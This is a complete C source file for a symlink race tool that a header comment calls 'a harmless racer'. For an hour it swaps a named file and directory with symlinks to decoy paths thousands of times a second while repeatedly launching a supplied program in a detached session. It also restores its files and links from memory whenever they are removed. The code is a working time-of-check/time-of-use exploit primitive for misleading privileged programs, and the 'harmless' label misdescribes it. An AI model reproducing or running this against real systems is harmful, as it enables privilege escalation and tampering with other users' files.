/* A harmless racer: racer FILE DECOY DIRECTORY OTHER -- PROGRAM ARGV0 [ARGV…]. Thousands of times a second FILE is a symlink to DECOY and DIRECTORY one to OTHER. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { LIFETIME = 3600 };

static char *bytes;
static size_t length;

static void learn(int fd) {
  struct stat at;
  if (fstat(fd, &at) != 0 || !(bytes = malloc((size_t)at.st_size + 1))) exit(1);
  for (ssize_t n; (n = pread(fd, bytes + length, (size_t)at.st_size - length, (off_t)length)) > 0;) length += (size_t)n;
}

/* Whatever was taken away is put back: the program from memory, the links, the directory. */
static void restore(const char *directory, const char *file, const char *decoy, const char *other, const char *leaf, const char *side) {
  struct stat at;
  mkdir(directory, 0755);
  if (lstat(file, &at) != 0) {
    int fd = open(file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC | O_NOFOLLOW, 0755);
    if (fd >= 0 && write(fd, bytes, length) < 0) exit(1);
    if (fd >= 0) close(fd);
  }
  if (symlink(decoy, leaf) != 0 || symlink(other, side) != 0) return;
}

static pid_t run(int program, char **argv) {
  pid_t pid = fork();
  if (pid != 0) return pid;
  setsid();
  fexecve(program, argv, environ);
  _exit(127);
}

int main(int argc, char **argv) {
  char leaf[PATH_MAX], side[PATH_MAX];
  if (argc < 8 || strcmp(argv[5], "--") != 0) return 2;
  const char *file = argv[1], *decoy = argv[2], *directory = argv[3], *other = argv[4];
  snprintf(leaf, sizeof leaf, "%s~", file);
  snprintf(side, sizeof side, "%s~", directory);
  int program = open(argv[6], O_RDONLY | O_CLOEXEC);
  if (program < 0) return 1;
  learn(program);
  pid_t child = -1;
  for (time_t end = time(NULL) + LIFETIME; time(NULL) < end;) {
    restore(directory, file, decoy, other, leaf, side);
    if (child < 0 || waitpid(child, NULL, WNOHANG) == child) child = run(program, argv + 7);
    for (int i = 0; i < 500; i++) {
      renameat2(AT_FDCWD, file, AT_FDCWD, leaf, RENAME_EXCHANGE);
      usleep(100);
      renameat2(AT_FDCWD, file, AT_FDCWD, leaf, RENAME_EXCHANGE);
      renameat2(AT_FDCWD, directory, AT_FDCWD, side, RENAME_EXCHANGE);
      usleep(100);
      renameat2(AT_FDCWD, directory, AT_FDCWD, side, RENAME_EXCHANGE);
      usleep(100);
    }
  }
  return 0;
}
